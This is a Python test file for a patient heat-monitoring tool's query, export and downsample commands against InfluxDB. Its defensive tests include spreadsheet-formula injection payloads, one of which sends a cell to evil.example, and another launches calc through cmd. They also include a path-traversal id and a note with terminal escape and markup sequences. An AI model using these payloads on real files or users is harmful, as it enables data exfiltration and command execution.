"""Researchers' access: the pandas API, ``heatmon query``/``export``/``downsample``,
against a real InfluxDB filled through the sink."""

from __future__ import annotations

import argparse
import contextlib
import functools
import io
import json
import os
import re
import time
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from monitor.commands import downsample as downsample_cmd
from monitor.commands import export as export_cmd
from monitor.commands import query as query_cmd
from monitor.errors import HeatmonError, InputError
from monitor.model import (
    Acknowledgement,
    Event,
    EventKind,
    Level,
    Quality,
    Sample,
    SampleFlag,
    SampleKind,
    SessionRecord,
    SymptomReport,
)
from monitor.storage.downsample import DOWNSAMPLE_SPECS
from monitor.storage.export import EXPORTED, FORMATS, ExportFormat, export_patient, export_steps
from monitor.storage.query import HeatmonStore, QueryError, quote_literal
from tests.fixtures.influxdb import InfluxDatabase
from tests.test_storage_sink import T0, make_sink, samples

START, STOP = "2024-05-17T12:00:00Z", "2024-05-17T13:00:00Z"  # T0 is 12:30 UTC


def run_cli(*argv: str) -> int:
    parser = argparse.ArgumentParser(prog="heatmon")
    sub = parser.add_subparsers(dest="command", required=True)
    for module in (query_cmd, export_cmd, downsample_cmd):
        module.register(sub)
    args = parser.parse_args(argv)
    code: int = args.func(args)
    return code


@pytest.fixture
async def filled(influx_db: InfluxDatabase, tmp_path: Path) -> InfluxDatabase:
    event = Event(
        id="p-001-7",
        patient="p-001",
        time=T0 + 30,
        session="s1",
        kind=EventKind.LEVEL,
        level=Level.CAUTION,
        previous_level=Level.OK,
        quality=Quality.GOOD,
        core_delta_c=0.31,
        message="Getting warm",
        requires_ack=True,
    )
    async with make_sink(influx_db, tmp_path) as sink:
        for s in samples(1200):  # two minutes of heart rate at 10 Hz
            sink.submit_sample(s, SampleFlag.OK)
        for s in samples(3, patient="p-002"):
            sink.submit_sample(s, SampleFlag.OK)
        sink.submit_event(event)
        sink.submit_record(
            Acknowledgement(patient="p-001", event_id="p-001-7", time=T0 + 95, by="physio-a")
        )
        sink.submit_record(
            SessionRecord(
                patient="p-001", session="s1", start=T0, stop=T0 + 120, activity="aerobic"
            )
        )
        sink.submit_record(
            SymptomReport(
                patient="p-001", time=T0 + 60, session="s1", core_delta_c=0.4, note="tingling"
            )
        )
        assert await sink.drain(timeout_s=20)
    return influx_db


def export_args(db: InfluxDatabase, out: Path, fmt: str, *extra: str) -> list[str]:
    """``heatmon export`` of p-001 over START..STOP, as typed on the command line."""
    return [
        "export",
        "--patient",
        "p-001",
        "--start",
        START,
        "--stop",
        STOP,
        "--format",
        fmt,
        "--out",
        str(out),
        *extra,
        "--url",
        db.url,
        "--database",
        db.name,
    ]


def store(db: InfluxDatabase) -> HeatmonStore:
    return HeatmonStore(url=db.url, database=db.name)


async def test_python_api_returns_dataframes(filled: InfluxDatabase) -> None:
    s = store(filled)
    hr = s.vitals("p-001", START, STOP, kind="heart_rate")
    sent = samples(1200)
    assert len(hr) == 1200
    assert list(hr["value"]) == [x.value for x in sent]
    assert str(hr["time"].dtype) == "datetime64[ns, UTC]"
    assert hr["time"].iloc[0] == pd.Timestamp(T0, unit="s", tz="UTC")
    assert set(hr["patient"]) == {"p-001"}  # the other patient is not mixed in
    alerts = s.alerts("p-001", START, STOP)
    assert list(alerts["event_id"]) == ["p-001-7"]
    assert alerts["acked_by"].iloc[0] == "physio-a"
    assert alerts["acked_at"].iloc[0] == pd.Timestamp(T0 + 95, unit="s", tz="UTC")
    sessions = s.sessions("p-001", START, STOP)
    assert sessions[["activity", "duration_s", "open"]].values.tolist() == [
        ["aerobic", 120.0, False]
    ]
    assert s.symptoms("p-001", START, STOP)["note"].tolist() == ["tingling"]
    assert s.patients() == ["p-001", "p-002"]
    assert s.vitals("p-001", "2024-05-18T00:00:00Z", "2024-05-18T01:00:00Z").empty


def test_bad_queries_say_what_is_wrong(influx_db: InfluxDatabase) -> None:
    with pytest.raises(QueryError, match=r"InfluxQL error|refused"):
        store(influx_db).query("SELEKT nonsense")
    with pytest.raises(HeatmonError, match="no zone"):
        store(influx_db).vitals("p", "2024-05-17T12:00:00", STOP)
    assert quote_literal("it's") == "'it\\'s'"


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
async def test_export_writes_one_readable_file_per_measurement(
    filled: InfluxDatabase, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / "export"
    code = run_cli(*export_args(filled, out, fmt))
    assert code == 0
    files = sorted(p.name for p in out.iterdir())
    assert files == sorted(
        f"p-001_{m}.{fmt}" for m in ("vitals", "thermal", "alerts", "sessions", "symptoms")
    )
    path = out / f"p-001_vitals.{fmt}"
    if fmt == "csv":
        vitals = pd.read_csv(path)
    elif fmt == "parquet":
        vitals = pd.read_parquet(path)
    else:
        vitals = pd.read_json(path, lines=True)
    assert len(vitals) == 1200
    assert vitals["value"].tolist() == pytest.approx([x.value for x in samples(1200)], rel=1e-15)
    assert set(vitals["patient"]) == {"p-001"}
    if fmt == "jsonl":
        first = json.loads(path.read_text().splitlines()[0])
        assert first["time"] == "2024-05-17T12:30:00.000000Z"


def test_export_refuses_an_id_that_is_no_pseudonym_and_an_empty_range(
    influx_db: InfluxDatabase, tmp_path: Path
) -> None:
    """The id names the files: ``../x`` wrote ``x_vitals.csv`` beside the chosen directory.
    A range that ends before it starts exported five empty files without a word."""
    from monitor.cli import main

    out = tmp_path / "out"
    argv = export_args(influx_db, out, "csv")
    with pytest.raises(InputError, match=r"--patient: '\.\./x' is not a pseudonymous"):
        run_cli(*[("../x" if a == "p-001" else a) for a in argv])
    with pytest.raises(InputError, match="is not before stop"):
        run_cli(*[(STOP if a == START else START if a == STOP else a) for a in argv])
    assert main([("../x" if a == "p-001" else a) for a in argv]) == 2
    assert list(tmp_path.iterdir()) == [], "nothing written, inside out or beside it"


@pytest.mark.timeout(30)
def test_export_refuses_a_range_or_window_that_would_never_end(
    influx_db: InfluxDatabase, tmp_path: Path
) -> None:
    """``--stop 1e300`` or ``--window-hours 1e-15`` (a slip of the keyboard) spun at 100 %
    CPU before the first query, without end (the windows were counted one by one, a window
    of 0 ns never advanced); ``--window-hours inf`` ended in a traceback. Now each is
    refused at once, naming the option."""
    out = tmp_path / "out"
    argv = export_args(influx_db, out, "csv")
    cases = (
        (["--stop", "1e300"], "--stop"),
        (["--start", "0", "--stop", "9999999999"], "--stop"),
        (["--window-hours", "1e-15"], "--window-hours"),
        (["--window-hours", "inf"], "--window-hours"),
        (["--window-hours", "1e9"], "--window-hours"),
    )
    for extra, where in cases:
        started = time.monotonic()
        with pytest.raises(InputError) as err:
            run_cli(*argv, *extra)
        assert err.value.where == where, (extra, str(err.value))
        assert time.monotonic() - started < 5, extra
    assert not out.exists(), "nothing written"


async def test_query_command_prints_csv(
    filled: InfluxDatabase, capsys: pytest.CaptureFixture[str]
) -> None:
    code = run_cli(
        "query",
        "SELECT count(\"value\") FROM vitals WHERE patient = 'p-001'",
        "--format",
        "csv",
        "--url",
        filled.url,
        "--database",
        filled.name,
    )
    assert code == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "time,count"
    assert lines[1].endswith(",1200")


async def test_downsampling_creates_cqs_and_backfills_minutes(
    filled: InfluxDatabase, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ("--url", filled.url, "--database", filled.name)
    assert run_cli("downsample", "--backfill", "--start", START, "--stop", STOP, *args) == 0
    cqs = {
        row[0]
        for s in filled.query("SHOW CONTINUOUS QUERIES")
        if s["name"] == filled.name
        for row in s.get("values", [])
    }
    assert {"vitals_1m", "thermal_1m"} <= cqs
    minutes = store(filled).measurement("vitals_1m", "p-001", START, STOP)
    sent = pd.Series([x.value for x in samples(1200)])
    assert minutes["count"].tolist() == [600, 600]
    assert minutes["mean"].tolist() == pytest.approx([sent[:600].mean(), sent[600:].mean()])
    assert run_cli("downsample", *args) == 0
    assert "none (all present)" in capsys.readouterr().out


def read_back(path: Path, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(path)
    if fmt == "parquet":
        return pd.read_parquet(path)
    return pd.read_json(path, lines=True)


@pytest.mark.parametrize("fmt", FORMATS)
async def test_an_export_in_many_windows_has_the_same_rows_as_in_one(
    influx_db: InfluxDatabase, tmp_path: Path, fmt: ExportFormat
) -> None:
    """Window by window (constant memory): the same files, byte for byte in CSV and JSON
    lines, though later windows lack fields (battery readings have no RR intervals) and
    some windows have no rows at all."""
    battery = [
        Sample("p-001", SampleKind.BATTERY, 90.0 - n, T0 + 60 + 10 * n, device="strap-1")
        for n in range(6)
    ]
    async with make_sink(influx_db, tmp_path) as sink:
        for x in [*samples(600), *battery]:  # heart rate for one minute, then battery
            sink.submit_sample(x, SampleFlag.OK)
        sink.submit_record(
            SymptomReport(
                patient="p-001", time=T0 + 100, session="s1", note="blurred", core_delta_c=None
            )
        )
        assert await sink.drain(timeout_s=20)
    db = store(influx_db)
    start, stop = T0 - 30, T0 + 150  # the last 30 s and the first 30 s are empty
    export = functools.partial(export_patient, db, patient="p-001", start=start, stop=stop, fmt=fmt)
    one = export(out_dir=tmp_path / "one", window_s=3600)
    calls: list[tuple[int, int]] = []
    many = export(
        out_dir=tmp_path / "many",
        window_s=15,
        progress=lambda done, rows: calls.append((done, rows)),
    )
    steps = export_steps(db, start, stop, window_s=15)
    assert steps == 12 * len(EXPORTED)
    assert [done for done, _ in calls] == list(range(1, steps + 1))
    assert calls[-1][1] == 600 + 6 + 1
    assert {m: rows for m, (_, rows) in many.items()} == {
        "vitals": 606,
        "thermal": 0,
        "alerts": 0,
        "sessions": 0,
        "symptoms": 1,
    }
    for measurement in EXPORTED:
        a, b = one[measurement][0], many[measurement][0]
        if fmt == "parquet":
            assert pq.read_table(a).equals(pq.read_table(b))
        else:
            assert a.read_bytes() == b.read_bytes()
    vitals = read_back(many["vitals"][0], fmt)
    assert vitals["value"].tolist() == [x.value for x in samples(600)] + [b.value for b in battery]
    rr_count = [None if pd.isna(v) else v for v in vitals["rr_count"].tolist()[598:602]]
    assert rr_count == [1, 1, None, None]
    if fmt == "parquet":
        schema = pq.read_schema(many["vitals"][0])
        assert str(schema.field("rr_count").type) == "int64"
        assert str(schema.field("accepted").type) == "bool"
        assert str(schema.field("time").type) == "timestamp[ns, tz=UTC]"
        # an empty measurement still has its columns and types
        assert "note" in pq.read_schema(many["symptoms"][0]).names


def test_export_shows_a_progress_bar_on_a_terminal(filled: InfluxDatabase, tmp_path: Path) -> None:
    """``heatmon export`` run as a user runs it, with its stderr on a terminal (a pty)."""
    import pty
    import subprocess
    import sys

    leader, follower = pty.openpty()
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "monitor.cli",
            *export_args(filled, tmp_path, "csv", "--window-hours", "0.25"),
        ],
        stdout=subprocess.PIPE,
        stderr=follower,
        timeout=60,
        env={**os.environ, "COLUMNS": "120", "TERM": "xterm"},
    )
    os.close(follower)
    chunks = []
    with contextlib.suppress(OSError):
        while data := os.read(leader, 65536):
            chunks.append(data)
    os.close(leader)
    assert proc.returncode == 0
    bar = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", b"".join(chunks).decode(errors="replace"))
    assert "exporting p-001" in bar
    assert " 0/20 windows" in bar  # drawn at the start, then moved by real progress
    assert "20/20 windows" in bar  # 4 windows of 15 min x 5 measurements
    assert "1,203 rows" in bar  # 1200 readings, 1 alert, 1 session, 1 symptom
    assert b"vitals: 1200 rows" in proc.stdout


def test_the_influxdb2_task_writes_what_the_continuous_queries_write() -> None:
    """docs/influxdb2-downsample.flux cannot run here; at least it names the same
    measurements and fields as the 1.x continuous queries, and reads only accepted
    vitals."""
    flux = (Path(__file__).parent.parent / "docs" / "influxdb2-downsample.flux").read_text()
    for target, (_, aggregates, tags) in DOWNSAMPLE_SPECS.items():
        helper = "vitalsSummary" if target == "vitals_1m" else "thermalSummary"
        in_flux = re.findall(rf'^{helper}\(.*name: "(\w+)"\)$', flux, flags=re.M)
        assert sorted(in_flux) == sorted(re.findall(r'AS "(\w+)"', aggregates))
        assert f'value: "{target}"' in flux
        group = ", ".join(['"_measurement"', '"_field"', *tags.split(", ")])
        assert f"group(columns: [{group}])" in flux
    assert 'r.flag == "ok" or r.flag == "gap"' in flux


FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1)")


async def test_a_csv_export_never_hands_a_spreadsheet_a_formula(
    influx_db: InfluxDatabase, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A symptom note is what a patient typed and ``by`` what a caregiver's app sent: text
    that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to the spreadsheet a
    researcher opens the CSV in (CWE-1236). The CSV of ``export`` and of ``query`` quotes it
    (a leading ``'``); Parquet and JSON Lines, read by programs, keep it as it was."""
    async with make_sink(influx_db, tmp_path) as sink:
        for n, note in enumerate(FORMULAS):
            sink.submit_record(
                SymptomReport(
                    patient="p-001", time=T0 + n, session="s1", core_delta_c=0.4, note=note
                )
            )
        assert await sink.drain(timeout_s=20)
    for fmt in ("csv", "jsonl"):
        assert run_cli(*export_args(influx_db, tmp_path / fmt, fmt)) == 0
    cells = pd.read_csv(tmp_path / "csv" / "p-001_symptoms.csv", dtype=str)["note"].tolist()
    assert cells == ["'" + note for note in FORMULAS]
    kept = read_back(tmp_path / "jsonl" / "p-001_symptoms.jsonl", "jsonl")["note"].tolist()
    assert kept == list(FORMULAS)
    numbers = pd.read_csv(tmp_path / "csv" / "p-001_symptoms.csv")["core_delta_c"].tolist()
    assert numbers == [0.4] * 3, "numbers are not quoted"
    capsys.readouterr()
    query = 'SELECT "note", "core_delta_c" FROM symptoms'
    argv = ("--url", influx_db.url, "--database", influx_db.name)
    assert run_cli("query", query, "--format", "csv", *argv) == 0
    printed = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str)
    assert printed["note"].tolist() == ["'" + note for note in FORMULAS]
    assert printed["core_delta_c"].tolist() == ["0.4"] * 3


async def test_query_table_shows_stored_text_as_text(
    influx_db: InfluxDatabase, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A symptom note is what a patient typed (a device tag what a gateway sent): ``heatmon
    query`` in table form (the default on a terminal) read it as rich markup, so a note with
    "[/]" stopped the query with a MarkupError traceback and "[link=…]" or escape sequences
    reached the researcher's terminal. Now every cell is plain text."""
    from monitor.model import SymptomReport
    from monitor.storage import lineprotocol as lp

    monkeypatch.setenv("COLUMNS", "300")  # one line a row
    note = "dizzy [/] [link=https://evil.example]call[/link] \x1b[2J"
    influx_db.write(
        lp.record_line(
            SymptomReport(patient="p-001", time=T0, session="s", core_delta_c=0.3, note=note)
        )
    )
    code = run_cli(
        "query",
        "SELECT note FROM symptoms",
        "--format",
        "table",
        "--url",
        influx_db.url,
        "--database",
        influx_db.name,
    )
    assert code == 0
    out = capsys.readouterr().out
    assert "dizzy [/] [link=https://evil.example]call[/link]" in out.replace("\n", "")
    assert "\x1b" not in out
